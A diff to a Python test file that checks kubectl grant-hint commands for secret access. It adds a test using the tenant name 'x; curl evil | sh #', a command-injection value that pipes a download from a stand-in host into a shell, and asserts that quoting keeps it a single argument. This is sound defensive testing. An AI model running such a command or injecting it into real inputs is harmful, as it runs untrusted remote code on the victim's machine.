@@ -1,10 +1,12 @@
 """What the accounts of a namespace need, and how a person is told."""
 
 import itertools
+import shlex
 
 import pytest
 
 from events.model import SpecModel, inner_model
+from events.ports import SecretRef
 from kikkake.grants import (
     Account,
     ResourceName,
@@ -155,3 +157,12 @@ def test_the_hint_names_every_secret_of_the_account_and_not_only_the_one_that_fa
     assert "--resource-name=first --resource-name=second" in hint
     assert "create rolebinding kikkake-default-secrets --role=kikkake-default-secrets" in hint
     assert reading([]) == Needs()
+
+
+def test_names_of_tenants_cannot_break_out_of_the_commands_of_the_hint():
+    evil = "x; curl evil | sh #"
+    ref = SecretRef("ci", evil, "k")
+    hint = grant_hint(Account("ci", evil), reading([ref]), "Secret")
+    commands = hint.partition("or only to read its secrets: ")[2]
+    assert shlex.split(commands).count(f"--resource-name={evil}") == 1
+    assert shlex.split(commands).count(f"--serviceaccount=ci:{evil}") == 1
